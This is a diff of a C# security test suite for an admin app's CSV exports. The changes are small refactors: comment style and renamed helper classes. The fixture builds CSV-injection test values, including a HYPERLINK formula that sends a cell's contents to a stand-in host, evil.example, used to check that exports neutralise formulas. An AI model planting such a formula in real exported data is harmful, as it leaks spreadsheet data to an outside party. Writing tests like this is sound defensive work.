@@ -6,8 +6,8 @@ using TechCourse.Admin.Tests.Support;
 
 namespace TechCourse.Admin.Tests.Security;
 
-/// Issue 19, sections 5 and 7, over HTTP: every CSV export neutralises formulas and keeps numbers numbers, is never
-/// cached, refuses a bad query string with a 400 before its first byte, and runs at most two at a time per account.
+// Issue 19, sections 5 and 7, over HTTP: every CSV export neutralises formulas and keeps numbers numbers, is never
+// cached, refuses a bad query string with a 400 before its first byte, and runs at most two at a time per account.
 [Trait("Category", "Security")]
 public sealed class CsvExportSecurityTests(CsvExportSecurityTests.App app) : IClassFixture<CsvExportSecurityTests.App>
 {
@@ -117,11 +117,11 @@ public sealed class CsvExportSecurityTests(CsvExportSecurityTests.App app) : ICl
         await using var hold = await owner.BeginTransactionAsync();
         await owner.ExecuteAsync("LOCK TABLE enrollments IN ACCESS EXCLUSIVE MODE", transaction: hold);
         var running = new[] { app.SendAsync(app.Admin, "enrollments.csv"), app.SendAsync(app.Admin, "enrollments.csv") };
-        await ExternalApp.WaitForAsync(async () => await app.WaitingExportsAsync() == 2, TimeSpan.FromSeconds(20), "two exports to wait on the lock");
+        await Eventually.WaitForAsync(async () => await app.WaitingExportsAsync() == 2, TimeSpan.FromSeconds(20), "two exports to wait on the lock");
 
         using var third = await app.Admin.GetAsync(new Uri(app.Url("sales/by-course"), UriKind.Relative));
         var otherAccount = app.SendAsync(app.OtherAdmin, "enrollments.csv");
-        await ExternalApp.WaitForAsync(async () => await app.WaitingExportsAsync() == 3, TimeSpan.FromSeconds(20), "the other account's export to start");
+        await Eventually.WaitForAsync(async () => await app.WaitingExportsAsync() == 3, TimeSpan.FromSeconds(20), "the other account's export to start");
         await hold.RollbackAsync();
         var finished = await Task.WhenAll([.. running, otherAccount]);
         using var afterwards = await app.Admin.GetAsync(new Uri(app.Url("enrollments.csv"), UriKind.Relative));
@@ -135,14 +135,14 @@ public sealed class CsvExportSecurityTests(CsvExportSecurityTests.App app) : ICl
     public sealed class App : IAsyncLifetime
     {
         private const string Password = "Export-Security-Pass-2026!";
-        private AppProcess? process;
+        private TestApp? process;
         private readonly string tag = Guid.NewGuid().ToString("N")[..6];
 
         public TestDatabase Database { get; private set; } = null!;
         public HttpClient Admin { get; private set; } = null!;
         public HttpClient OtherAdmin { get; private set; } = null!;
 
-        /// As the title appears inside a quoted CSV field (its quotes doubled); the course is stored with single quotes.
+        // As the title appears inside a quoted CSV field (its quotes doubled); the course is stored with single quotes.
         public string Title(string prefix) => $"{prefix}HYPERLINK(\"\"http://evil.example/?d=\"\"&A2) {tag}{(int)prefix[0]}";
         public string Email(string prefix) => $"{prefix}cmd{(int)prefix[0]}-{tag}@evil.example";
         public string Reason(string prefix) => $"{prefix}SUM(A1:A9) {tag}{(int)prefix[0]}";
@@ -188,7 +188,7 @@ public sealed class CsvExportSecurityTests(CsvExportSecurityTests.App app) : ICl
 
         public Task<HttpResponseMessage> SendAsync(HttpClient client, string export) => client.GetAsync(new Uri(Url(export), UriKind.Relative));
 
-        /// Statements of the app waiting on a lock (the exports the test holds up).
+        // Statements of the app waiting on a lock (the exports the test holds up).
         public async Task<long> WaitingExportsAsync()
         {
             await using var connection = await Database.DataSource.OpenConnectionAsync();
